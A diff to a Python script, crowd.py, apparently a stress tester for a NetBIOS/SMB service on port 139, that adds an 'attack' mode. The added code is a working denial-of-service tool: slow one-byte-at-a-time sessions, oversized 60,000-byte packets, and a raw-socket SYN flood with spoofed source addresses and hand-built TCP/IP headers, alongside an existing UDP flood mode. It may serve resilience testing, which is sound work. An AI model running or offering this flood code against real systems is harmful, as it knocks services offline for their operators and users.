@@ -3,6 +3,9 @@
 
 crowd.py send TARGET COUNT SOURCE...    COUNT senders at once; prints how many were acknowledged
 crowd.py hold TARGET COUNT SOURCE...    COUNT sessions that say too little; "ready", then for ever
+crowd.py attack TARGET COUNT SOURCE...  COUNT sessions that get a byte now and then, packets that
+                                        are too long, and connections that are never finished or
+                                        never ended; "ready", then until standard input ends
 crowd.py flood TARGET COUNT HEX         COUNT datagrams to UDP 138, and as many queries to UDP 137
 """
 
@@ -78,6 +81,70 @@ def hold(target, count, sources):
     sys.stdin.read()
 
 
+def checksum(data):
+    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
+    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+
+
+def syn(source, target, port):
+    """The first packet of a connection that is never finished."""
+    source, target = socket.inet_aton(source), socket.inet_aton(target)
+    segment = struct.pack(">HHIIBBHHH", port, 139, port, 0, 0x50, 2, 8192, 0, 0)
+    whole = source + target + struct.pack(">BBH", 0, 6, 20) + segment
+    segment = segment[:16] + struct.pack(">H", checksum(whole)) + segment[18:]
+    header = struct.pack(">BBHHHBBH", 0x45, 0, 40, port, 0, 64, 6, 0) + source + target
+    return header + segment
+
+
+async def drip(target, source):
+    """A session that never stops beginning to say something."""
+    while True:
+        try:
+            reader, writer = await asyncio.open_connection(target, 139, local_addr=(source, 0))
+            for byte in REQUEST[:-1]:
+                writer.write(bytes([byte]))
+                await asyncio.sleep(0.2)
+        except OSError:
+            await asyncio.sleep(0.2)
+
+
+async def shout(target, source):
+    """Packets that are longer than any may be."""
+    while True:
+        try:
+            reader, writer = await asyncio.open_connection(target, 139, local_addr=(source, 0))
+            writer.write(b"\x00\x01\xff\xff" + bytes(60000))
+            await reader.read()
+            writer.close()
+        except OSError:
+            pass
+        await asyncio.sleep(0.01)
+
+
+async def knock(target):
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    port = 1024
+    while True:
+        for _ in range(50):
+            port = port + 1 if port < 65000 else 1024
+            try:
+                raw.sendto(syn("10.86.0.%d" % (150 + port % 100), target, port), (target, 0))
+            except OSError:
+                pass
+        await asyncio.sleep(0.01)
+
+
+async def attack(target, count, sources):
+    tasks = [drip(target, sources[n % len(sources)]) for n in range(count)]
+    tasks += [shout(target, source) for source in sources] + [knock(target)]
+    tasks = [asyncio.ensure_future(task) for task in tasks]
+    await asyncio.sleep(2)
+    print("ready", flush=True)
+    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
+    # Killed with its sockets open, behind a wall that lets no farewell through.
+    os._exit(0)
+
+
 def flood(target, count, packet):
     peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     query = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + encoded("ROOT", 3) + b"\0\x20\0\1"
@@ -91,6 +158,8 @@ def flood(target, count, packet):
 mode, target, count, *rest = sys.argv[1:]
 if mode == "send":
     asyncio.run(crowd(target, int(count), rest))
+elif mode == "attack":
+    asyncio.run(attack(target, int(count), rest))
 elif mode == "hold":
     hold(target, int(count), rest)
 else:
